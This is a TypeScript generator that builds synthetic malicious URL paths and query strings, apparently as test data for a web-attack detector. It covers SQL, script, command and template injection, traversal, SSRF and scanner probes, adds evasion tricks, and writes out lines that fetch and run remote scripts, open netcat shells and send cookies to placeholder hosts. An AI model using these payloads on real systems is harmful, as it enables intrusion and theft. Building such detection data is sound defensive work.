// Made-up attacks on a path or a query: injection of SQL, scripts, commands, templates and
// documents, traversal, forged requests, and the files that scanners look for. Written from what
// these attacks need to work, not from anybody's list of payloads, so that the public data remain
// something that the shipped table has never seen.

import type { Prng } from "../lib/prng";
import { type Grammar, expand } from "./grammar";
import { encodeValue, healthyPath, healthyQuery } from "./healthy-targets";

const pick = <T>(random: Prng, items: readonly T[]): T => items[random.below(items.length)]!;
const small = (random: Prng) => String(1 + random.below(99));
const large = (random: Prng) => String(1000 + random.below(9000));
const letters = (random: Prng) =>
  Array.from({ length: 4 }, () => String.fromCharCode(97 + random.below(26))).join("");

const SQL: Grammar = {
  sql: [
    "«open»«boolean»«end»",
    "«open» «union»«end»",
    "«open»«stacked»«end»",
    "«open»«timed»«end»",
  ],
  open: ["«start»'", '«start»"', "«start»')", "«start»'))", '«start»")', "«start»", "«start»)"],
  start: [small, letters, "-«n»", "admin", ""],
  n: [small, large],
  w: [letters],
  end: [" -- ", "--", "#", "/*", "", " and '«w»'='«w»", " or '1'='1", ";--", ' and ("«w»"="«w»'],
  boolean: [
    " or «n»=«n»",
    " and «n»=«n»",
    " or '«w»'='«w»'",
    " or 1=1",
    "/**/or/**/«n»=«n»",
    " or true",
    " and «n»=(select count(*) from «table»)",
    " and (select «n» from (select(sleep(«n»)))«w»)",
    " where «n»=«n» and «n»=«n»",
    " rlike (select (case when («n»=«n») then «n» else 0x«n» end))",
    " and extractvalue(«n»,concat(0x«n»,(select «fn»)))",
    " in boolean mode) and («n»=«n»",
    " having «n»=«n»",
    " || (select «fn»)",
  ],
  union: [
    "union select «columns»",
    "union all select «columns» from «table»",
    "/*!union*/ select «columns»",
    "order by «n»",
    "group by «w» having «n»=«n»",
    "procedure analyse(«n»)",
  ],
  columns: [
    "null,null,null",
    "«n»,«n»,«fn»",
    "concat(«w»,0x3a,«fn»)",
    "char(«n»)+char(«n»)+char(«n»)",
  ],
  fn: [
    "version()",
    "user()",
    "database()",
    "@@version",
    "group_concat(table_name)",
    "current_user",
  ],
  table: [
    "information_schema.tables",
    "sysibm.systables as t1",
    "all_users t1,all_users t2",
    "mysql.user",
    "pg_sleep(5)",
    "sysusers as s1",
    "dual",
    "users",
  ],
  stacked: [
    ";drop table «w»",
    ";insert into «w» values(«n»,'«w»')",
    ";select pg_sleep(«n»)",
    ";exec xp_cmdshell('«w»')",
    ";declare @x varchar(99);set @x=0x«n»",
    ";select case when «n»=«n» then «n» else null end",
    ");call «w»('«w»',«n»)",
  ],
  timed: [
    " and sleep(«n»)",
    " waitfor delay '0:0:«n»'",
    " or benchmark(«n»000000,md5(«n»))",
    " and «n»=dbms_pipe.receive_message(chr(«n»)||chr(«n»),«n»)",
    " and «n»=convert(int,(select char(«n»)+char(«n»)))",
    " and «n»=like('abc',upper(hex(randomblob(«n»00000/2))))",
    " and ascii(substr((select «fn»),«n»,1))>«n»",
  ],
  nosql: [
    "[$ne]=«n»",
    '{"$gt":""}',
    "'; return true; var a='",
    '{"$where":"sleep(«n»)"}',
    "'||'1'=='1",
  ],
};

const SCRIPT: Grammar = {
  ...SQL,
  xss: [
    "<script>«js»</script>",
    '"><script>«js»</script>',
    "'><img src=x onerror=«js»>",
    "<svg/onload=«js»>",
    '<«tag» «event»="«js»">',
    '<«tag» src="javascript:«js»">',
    "<a href=javascript:«js»>«w»</a>",
    '" «event»="«js»',
    "';«js»;//",
    "<iframe srcdoc='<script>«js»</script>'>",
    "<script src=//«w».com/«w».js></script>",
    "<style>@import'http://«w».com/x.css';</style>",
    '<div style="width:expression(«js»)">',
    '<meta http-equiv="refresh" content="0;url=javascript:«js»">',
    "</«tag»><«tag»><«w» «event»=«js»//",
    "<scr<script>ipt>«js»</scr</script>ipt>",
    "javascript:«js»",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<!--<«tag»>--><?«w» echo('«w»');?>",
  ],
  tag: [
    "img",
    "body",
    "input",
    "iframe",
    "video",
    "object",
    "embed",
    "form",
    "table",
    "b",
    "marquee",
  ],
  event: ["onload", "onerror", "onclick", "onmouseover", "onfocus", "ontoggle"],
  js: [
    "alert(«n»)",
    "alert('«w»')",
    "alert(document.cookie)",
    "document.location='http://«w».com/?'+document.cookie",
    "prompt(«n»)",
    "confirm`«n»`",
    "eval(atob('YWxlcnQoMSk='))",
    "String.fromCharCode(«n»,«n»,«n»)",
    "window.open('//«w».com')",
  ],
};

const SYSTEM: Grammar = {
  ...SCRIPT,
  command: [
    "«n»«sep»«program»",
    "«sep»«program»",
    "«w»«sep»«program»«sep»",
    "`«program»`",
    "$(«program»)",
    '"«sep»«program»«sep»"',
    "&& «program» &&",
  ],
  sep: [";", "|", "||", "&", "&&", "; ", " | ", "\n"],
  program: [
    "id",
    "whoami",
    "uname -a",
    "ls -la /",
    "cat /etc/passwd",
    "/bin/cat /etc/shadow",
    "sleep «n»",
    "ping -c «n» 127.0.0.1",
    "wget http://«w».com/«w».sh -O- | sh",
    "curl «w».com|bash",
    "nc -e /bin/sh 10.0.0.«n» «n»",
    "dir c:\\",
    "type %SYSTEMROOT%\\win.ini",
    "powershell -enc «w»",
    "system('id')",
    "netstat -an",
    "/usr/bin/id",
  ],
  traversal: [
    "«up»«up»«up»«target»",
    "/«up»«up»«target»",
    "«up»«up»«up»«up»«up»«target»\0",
    "file://«target»",
  ],
  up: ["../", "..\\", "....//", "..%2f", "%2e%2e/", "..;/", "..%5c", "..%252f"],
  target: [
    "/etc/passwd",
    "etc/passwd",
    "etc/shadow",
    "windows/win.ini",
    "boot.ini",
    "WEB-INF/web.xml",
    "proc/self/environ",
    "var/log/auth.log",
    ".ssh/id_rsa",
  ],
  template: [
    "{{«n»*«n»}}",
    "${«n»*«n»}",
    "<%= «n»*«n» %>",
    "{{config.__class__.__init__.__globals__}}",
    "#{«n»*«n»}",
    "${jndi:ldap://«w».com/«w»}",
    "${${lower:j}ndi:rmi://«w».com/a}",
    "%{(#«w»='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT)}",
    "{{''.constructor.constructor('«w»')()}}",
  ],
  document: [
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "*)(uid=*))(|(uid=*",
    "*)(&(objectClass=*)",
    "' or count(parent::*[position()=«n»])=0 or 'a'='b",
    "php://filter/convert.base64-encode/resource=«target»",
    "expect://id",
    "«w»\r\nSet-Cookie: «w»=«n»",
    "«w»\r\n\r\n<html>«w»</html>",
  ],
  forged: [
    "http://169.254.169.254/latest/meta-data/iam/",
    "http://127.0.0.1:«n»/admin",
    "http://localhost:«n»/server-status",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "dict://127.0.0.1:11211/stats",
    "http://[::1]:«n»/",
  ],
  payload: [
    "«sql»",
    "«sql»",
    "«sql»",
    "«sql»",
    "«nosql»",
    "«xss»",
    "«xss»",
    "«xss»",
    "«command»",
    "«command»",
    "«traversal»",
    "«traversal»",
    "«template»",
    "«document»",
    "«forged»",
  ],
  probe: [
    "/.git/config",
    "/.env",
    "/wp-login.php",
    "/wp-content/plugins/«w»/readme.txt",
    "/phpmyadmin/index.php",
    "/cgi-bin/«w».cgi",
    "/server-status",
    "/admin/config.php",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/actuator/env",
    "/solr/admin/info/system",
    "/boaform/admin/formLogin",
    "/_ignition/execute-solution",
    "/backup.sql",
    "/«w».bak",
    "/etc/passwd",
    "/shell.php",
    "/HNAP1/",
    "/.aws/credentials",
    "/xmlrpc.php",
  ],
};

/** Capitals at random: keywords do not care, and rules that do are evaded so. */
function mixCase(text: string, random: Prng): string {
  return [...text].map((c) => (random.below(2) === 0 ? c.toUpperCase() : c)).join("");
}

/** Spaces as comments or tabs, as they evade a rule that expects spaces. */
function disguise(payload: string, random: Prng): string {
  const choice = random.below(10);
  if (choice === 0) return mixCase(payload, random);
  if (choice === 1) return payload.replaceAll(" ", "/**/");
  if (choice === 2) return payload.replaceAll(" ", "\t");
  return payload;
}

/** An attack in one value of an otherwise healthy query, in the path, or a scanner's probe. */
export function attackTarget(random: Prng): string {
  const place = random.below(10);
  if (place === 0) return expand(SYSTEM, "probe", random);
  const payload = disguise(expand(SYSTEM, "payload", random), random);
  const style = pick(random, ["component", "component", "form", "lax"] as const);
  const once = encodeValue(payload, style);
  const encoded = random.below(12) === 0 ? encodeValue(once, "component") : once;
  if (place === 1) return `${healthyPath(random)}/${encodeValue(payload, "component")}`;
  const pair = `${pick(random, ["id", "q", "name", "file", "url", "user", "page"])}=${encoded}`;
  const others = healthyQuery(random).split("&");
  const rest = others.slice(0, random.below(others.length + 1));
  rest.splice(random.below(rest.length + 1), 0, pair);
  return `${healthyPath(random)}?${rest.join("&")}`;
}
